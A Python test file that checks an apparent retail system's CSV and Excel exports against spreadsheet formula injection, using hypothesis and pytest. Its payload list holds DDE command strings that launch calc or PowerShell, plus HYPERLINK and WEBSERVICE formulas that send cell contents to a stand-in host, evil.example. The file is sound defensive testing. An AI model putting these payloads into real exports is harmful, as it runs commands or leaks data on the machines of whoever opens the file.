"""No cell of a CSV or a workbook is a formula, whatever a shopper, merchant or kiosk wrote."""

from __future__ import annotations

import csv
import io
import itertools
import re
import zipfile

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from sync.central.exports import as_csv
from sync.central.exports.asking import Form, What
from sync.central.exports.columns import Kind, text
from sync.central.exports.neutral import neutral
from sync.central.exports.sheets import SHEETS
from tests.sync.exports import world
from tests.sync.exports.conftest import asked

STARTS = "=+-@＝＋－＠﹦﹢﹣﹫"
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|'/C powershell'!_xlbgnm.A1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '=DDE("cmd";"/C calc";"!A0")',
    '=WEBSERVICE("https://evil.example/"&A2)',
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \u00a0\u200b\ufeff=1+1",
    '"=1+1',
    '"; =1+1',
    "harmless;=1+1",
    "harmless\t=1+1",
    "harmless\r\n=1+1",
    'harmless,"=1+1',
    "harmless|-1",
    "\x00=1+1",
    "\u2028=1+1",
    "=",
    "-",
    ";;=1",
    '=";=";="',
    "'=1+1",
]
BEFORE = re.compile('[\\s"\u00ad\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2064\ufeff\ufffd]*')


def opens_a_formula(cell: str) -> bool:
    rest = cell[BEFORE.match(cell).end() :]
    return bool(rest) and rest[0] in STARTS


def cells(data: str, separator: str) -> list[str]:
    """As a spreadsheet that splits there takes it, whatever the quotes were meant for."""
    csv.field_size_limit(1 << 24)
    reader = csv.reader(io.StringIO(data, newline=""), delimiter=separator)
    lines = itertools.chain.from_iterable(reader)
    plain = (cell for line in data.splitlines() for cell in line.split(separator))
    return [*lines, *plain]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_of_a_csv_begins_a_formula(separator):
    """Every text of the row is the payload, and what opens the file is one, too."""
    columns = SHEETS[What.LINES].columns
    rows = [
        [payload if column.kind is Kind.TEXT else None for column in columns]
        for payload in map(text, PAYLOADS)
    ]
    wanted = asked(What.LINES, mark=False)
    told = b"".join(as_csv.chunks(wanted, columns, rows, world.NOON)).decode()
    assert not [cell for cell in cells(told, separator) if opens_a_formula(cell)]


def test_a_csv_from_the_database_holds_none_either(database, export):
    payloads = [one for one in PAYLOADS if "\0" not in one]
    drops = [world.drop_row(n, order_number=one, bag_id=one) for n, one in enumerate(payloads, 1)]
    lines = [
        world.line_row(row, name=one, sku=one) for row, one in zip(drops, payloads, strict=True)
    ]
    world.put(database, *drops, lines=lines)
    for what in (What.DROPS, What.LINES):
        read = list(csv.reader(io.StringIO(export(what, mark=False).decode(), newline="")))
        assert len(read) == len(payloads) + 1
        assert not [cell for line in read for cell in line if opens_a_formula(cell)]


@given(
    st.text(
        st.one_of(st.sampled_from(STARTS + ";,\t\r\n |:\"'\u200b\ufeff"), st.characters()),
        max_size=30,
    )
)
@example('a;"=1')
@example("a\v=1")
def test_no_text_stays_a_formula(text):
    held = io.StringIO(newline="")
    csv.writer(held, lineterminator="\r\n").writerow(["K1-000001", neutral(text), neutral(text)])
    for separator in ",;\t|":
        assert not [one for one in cells(held.getvalue(), separator) if opens_a_formula(one)]


@given(st.text(st.characters(codec="utf-8")))
def test_only_apostrophes_are_put_in(text):
    """So nothing is lost, and text without a formula stays as it is."""
    safe = neutral(text)
    assert safe.replace("'", "") == text.replace("'", "")
    assert neutral(safe) == safe
    if not any(start in text for start in STARTS) and not text.startswith(("\t", "\r", "\n")):
        assert safe == text


@pytest.mark.parametrize("plain", ["Linen dress", "K1-000042-S", "RMA-1", "a-b=c+d@e", "Größe 5"])
def test_plain_text_stays_as_it_is(plain):
    assert neutral(plain) == plain


def test_many_blanks_take_no_longer_than_they_are():
    """Once by each character: a look back for each blank would not end in the test's time."""
    assert neutral("\t" * 200_000 + "=") == "'" + "\t" * 200_000 + "'="


def test_a_workbook_holds_text_and_no_formula_link_or_other_book(database, export):
    payloads = [one for one in PAYLOADS if database.sqlite or "\0" not in one]
    drops = [world.drop_row(n, order_number=one) for n, one in enumerate(payloads, 1)]
    drops.append(world.drop_row(999, order_number="https://evil.example/"))
    world.put(database, *drops)
    data = export(What.DROPS, Form.EXCEL)
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        names = parts.namelist()
        sheet = parts.read("xl/worksheets/sheet1.xml")
    assert not [name for name in names if "externalLink" in name or "rels/sheet" in name]
    assert not re.search(rb"<f[ >]|<hyperlink|ddeLink", sheet)
    read = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    place = [cell.value for cell in read[1]].index("order_number") + 1
    told = [read.cell(row, place) for row in range(2, read.max_row + 1)]
    assert {cell.data_type for cell in told} <= {"s", "inlineStr"}
    assert "=cmd|' /C calc'!A0" in [cell.value for cell in told]
